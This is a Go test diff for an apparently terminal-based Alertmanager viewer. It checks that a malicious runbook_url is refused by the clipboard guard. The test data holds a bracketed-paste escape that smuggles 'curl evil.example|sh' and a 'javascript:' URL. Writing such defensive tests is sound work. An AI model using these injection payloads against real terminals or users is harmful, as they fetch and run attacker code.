@@ -21,6 +21,7 @@ import (
 	"github.com/stackpit/stackpit/datasource/alertmanager"
 	"github.com/stackpit/stackpit/keymap"
 	"github.com/stackpit/stackpit/themes"
+	"github.com/stackpit/stackpit/ui/safe"
 	"github.com/stackpit/stackpit/views/pane"
 	"github.com/stackpit/stackpit/views/silences"
 )
@@ -550,5 +551,31 @@ func TestGroupSeverityFromFiringAlerts(t *testing.T) {
 	}
 	if len(heads) != 2 || heads[0] != "WARN host=compute05" || heads[1] != "INFO host=compute06" {
 		t.Fatalf("group heads %q", heads)
+	}
+}
+
+// Issue 14: a runbook_url that ends a bracketed paste and runs a command is
+// handed to the shell as a URL, which safe.Clipboard refuses.
+func TestRunbookCopyIsAURLTheShellRefuses(t *testing.T) {
+	for _, u := range []string{"https://runbooks.example/x\x1b[201~\ncurl evil.example|sh\n", "javascript:alert(1)"} {
+		src := &fakeSource{alerts: []alertmanager.Alert{{
+			Fingerprint: "0badc0de0badc0de",
+			Labels:      map[string]string{"alertname": "HostDown", "severity": "critical", "host": "compute04"},
+			Annotations: map[string]string{"runbook_url": u},
+			StartsAt:    testNow.Add(-time.Minute),
+			Status:      alertmanager.AlertStatus{State: "active"},
+		}}}
+		p := loaded(t, src)
+		var cp pane.CopyMsg
+		for i := 0; i < 3 && cp.Text == ""; i++ { // past a group header, if any
+			cp, _ = run(press(p, "u")).(pane.CopyMsg)
+			p.Update(keyMsg("j"))
+		}
+		if cp.Text != u || cp.Kind != safe.URL {
+			t.Fatalf("u: got %#v, want the runbook_url as a safe.URL copy", cp)
+		}
+		if got, err := safe.Clipboard(cp.Text, cp.Kind); err == nil {
+			t.Fatalf("%q would be copied as %q", u, got)
+		}
 	}
 }
